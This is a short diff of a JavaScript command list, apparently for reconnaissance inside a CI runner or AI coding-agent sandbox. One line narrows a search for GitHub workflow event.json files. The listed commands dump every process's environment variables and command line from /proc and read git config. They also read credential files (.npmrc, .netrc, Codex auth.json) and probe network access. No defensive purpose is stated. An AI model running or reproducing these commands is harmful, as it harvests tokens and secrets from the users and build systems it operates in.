@@ -11,7 +11,7 @@ const COMMANDS = [
   "cat /proc/self/environ /proc/1/environ /proc/*/environ | tr '\\0' '\\n'",
   "cat /proc/*/cmdline | tr '\\0' ' '",
   "cat ../../_github_workflow/event.json ../../_runner_file_commands/output; ls -la ../../_github_workflow",
-  "find / -name event.json -not -path '/proc/*' 2>/dev/null | head -3 | xargs cat 2>/dev/null",
+  "find /home /root /tmp -maxdepth 8 -name event.json 2>/dev/null | head -3 | xargs cat 2>/dev/null",
   "git config --list --show-origin; cat .git/config ../*/config ../git/config; ls -la ..",
   "cat $HOME/.npmrc $HOME/.netrc $HOME/.codex/auth.json $CODEX_HOME/auth.json; ls -la $HOME",
   "curl -m 2 -sS http://127.0.0.1:1/ || wget -T 2 -qO- http://127.0.0.1:1/; echo net=$?",
